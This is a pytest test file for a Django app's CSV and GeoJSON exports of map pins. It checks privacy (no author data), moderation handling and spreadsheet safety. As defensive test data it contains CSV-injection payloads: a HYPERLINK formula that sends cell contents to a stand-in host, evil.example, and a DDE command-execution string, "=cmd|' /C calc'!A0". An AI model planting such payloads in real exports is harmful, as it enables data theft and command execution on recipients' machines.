"""Officers' downloads of pins: a spreadsheet-safe CSV and a GeoJSON file, never who placed
a pin."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from places.models import Pin

pytestmark = pytest.mark.django_db

CSV = "/places/export.csv"
GEOJSON = "/places/export.geojson"
HEADER = [
    "Pin",
    "Proud or ashamed",
    "Service",
    "About",
    "Description",
    "Ward",
    "Latitude",
    "Longitude",
    "Placed by ward",
    "Where exactly",
    "Placed at",
    "Me too",
    "Moderation",
    "Status",
    "Status changed at",
    "Passed to",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def officer_client(client, officer):
    client.force_login(officer)
    return client


def body_of(response) -> str:
    assert response.status_code == 200, response.content if not response.streaming else ""
    return b"".join(response.streaming_content).decode("utf-8")


def rows_of(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.fixture
def pins(make_pin, resident, other_resident, moderator):
    made = [
        make_pin(author=resident, description="Lovely park", kind="pride"),
        make_pin(author=resident, description='Bins, "overflowing"\nagain', ward="east", lon=-1.45),
        make_pin(author=other_resident, description="Waiting for a moderator"),
    ]
    made[0].add_me_too(other_resident)
    Pin.objects.filter(pk=made[2].pk).update(moderation=Pin.Moderation.PENDING)
    return made


def test_the_csv_has_a_bom_a_header_and_one_row_per_pin(officer_client, pins):
    response = officer_client.get(CSV)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert 'filename="pins-' in response["Content-Disposition"]
    rows = rows_of(body_of(response))
    assert rows[0] == HEADER
    assert len(rows) == 1 + len(pins)
    by_id = {row[0]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
    assert set(by_id) == {str(p.pk) for p in pins}
    first = by_id[str(pins[0].pk)]
    assert first["Proud or ashamed"] == "pride"
    assert first["Description"] == "Lovely park"
    assert first["Ward"] == "Westgate"
    assert first["Me too"] == "1"
    assert first["Longitude"] == "-1.55"  # a plain negative number stays a number
    assert by_id[str(pins[1].pk)]["Description"] == 'Bins, "overflowing"\nagain'
    assert by_id[str(pins[2].pk)]["Moderation"] == "pending"


@pytest.mark.parametrize("url", [CSV, GEOJSON])
def test_unpublished_pins_keep_their_row_but_not_their_words(officer_client, pins, moderator, url):
    """A downloaded file leaves the platform: a hidden pin (perhaps hidden for naming someone)
    and a pin no moderator has passed are counted, with their words left out."""
    pins[0].hide(by=moderator, reason="It is about a person, not a place or service")
    Pin.objects.filter(pk=pins[0].pk).update(location_description="Outside number 12")
    text = body_of(officer_client.get(url))

    for words in ("Lovely park", "Outside number 12", "Waiting for a moderator"):
        assert words not in text
    assert "overflowing" in text  # the published pin keeps its words
    if url == CSV:
        by_id = {row[0]: dict(zip(HEADER, row, strict=True)) for row in rows_of(text)[1:]}
        hidden = by_id[str(pins[0].pk)]
        assert (hidden["Moderation"], hidden["Description"], hidden["Ward"]) == (
            "hidden",
            "",
            "Westgate",
        )
    else:
        by_id = {f["id"]: f["properties"] for f in json.loads(text)["features"]}
        assert by_id[pins[2].pk]["moderation"] == "pending"
        assert by_id[pins[2].pk]["description"] == ""


def test_the_csv_never_says_who_placed_a_pin(officer_client, pins, resident, other_resident):
    text = body_of(officer_client.get(CSV))
    for private in (
        resident.email,
        other_resident.email,
        resident.display_name,
        other_resident.display_name,
    ):
        assert private not in text


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_like_text_is_neutralised_with_a_leading_quote(
    officer_client, make_pin, resident, formula
):
    make_pin(author=resident, description=formula, location_description=formula)
    rows = rows_of(body_of(officer_client.get(CSV)))
    row = dict(zip(HEADER, rows[1], strict=True))
    assert row["Description"] == "'" + formula
    assert row["Where exactly"] == "'" + formula


def test_every_cell_of_the_csv_is_safe_in_a_spreadsheet(
    officer_client, make_pin, resident, officer, serving_council
):
    from places import services
    from tests.factories import OrganisationFactory

    routed = OrganisationFactory(name="=cmd|' /C calc'!A0", kind="district")
    pin = make_pin(author=resident, description="@evil")
    services.post_update(
        pins=[pin],
        status=Pin.Status.NOT_OURS,
        message="Theirs",
        organisation=serving_council,
        by=officer,
        routed_to=routed,
    )
    for row in rows_of(body_of(officer_client.get(CSV))):
        for cell in row:
            if cell and cell[0] in "=+@\t\r":
                raise AssertionError(f"unsafe cell {cell!r}")
            if cell.startswith("-"):
                float(cell)  # only plain numbers may start with a minus


def test_the_csv_follows_the_filters(officer_client, pins, place):
    rows = rows_of(body_of(officer_client.get(CSV, {"kind": "pride"})))
    assert [row[1] for row in rows[1:]] == ["pride"]
    rows = rows_of(body_of(officer_client.get(CSV, {"ward": place["east"].slug})))
    assert [row[5] for row in rows[1:]] == ["Eastgate"]


def test_bad_filters_are_a_400_not_a_broken_file(officer_client, pins):
    response = officer_client.get(CSV, {"since": "tomorrow"})
    assert response.status_code == 400
    assert list(response.json()["errors"]) == ["since"]


def test_an_empty_export_is_just_the_header(officer_client, place):
    rows = rows_of(body_of(officer_client.get(CSV)))
    assert rows == [HEADER]
    assert json.loads(body_of(officer_client.get(GEOJSON))) == {
        "type": "FeatureCollection",
        "features": [],
    }


def test_the_geojson_parses_and_has_no_author_data(officer_client, pins, resident, other_resident):
    response = officer_client.get(GEOJSON)

    assert response["Content-Type"] == "application/geo+json"
    text = body_of(response)
    data = json.loads(text)
    assert data["type"] == "FeatureCollection"
    assert {f["id"] for f in data["features"]} == {p.pk for p in pins}
    for feature in data["features"]:
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        assert "author" not in feature["properties"]
        assert set(feature["properties"]) == {
            "kind",
            "category",
            "aspect",
            "description",
            "ward",
            "located_by_ward",
            "location_description",
            "created",
            "me_too",
            "moderation",
            "status",
            "passed_to",
        }
    for private in (resident.email, other_resident.email, resident.display_name):
        assert private not in text
    [east] = [f for f in data["features"] if f["properties"]["ward"] == "Eastgate"]
    assert east["properties"]["description"] == 'Bins, "overflowing"\nagain'
    assert east["geometry"]["coordinates"] == [-1.45, 52.05]


def test_a_big_geojson_export_is_still_one_valid_document(officer_client, bulk_pins):
    bulk_pins([(-1.55 + n * 1e-5, 52.05, "shame") for n in range(1_200)], description='ü ✓ "q"')
    data = json.loads(body_of(officer_client.get(GEOJSON)))
    assert len(data["features"]) == 1_200
    assert data["features"][0]["properties"]["description"] == 'ü ✓ "q"'


@pytest.mark.parametrize("url", [CSV, GEOJSON])
def test_exports_make_the_same_queries_for_1_or_30_pins(officer_client, make_pin, resident, url):
    def count() -> int:
        body_of(officer_client.get(url))
        with CaptureQueriesContext(connection) as captured:
            body_of(officer_client.get(url))
        return len(captured)

    make_pin(author=resident)
    one = count()
    for n in range(29):
        make_pin(author=resident, lon=-1.55 + n * 1e-4)
    assert count() == one
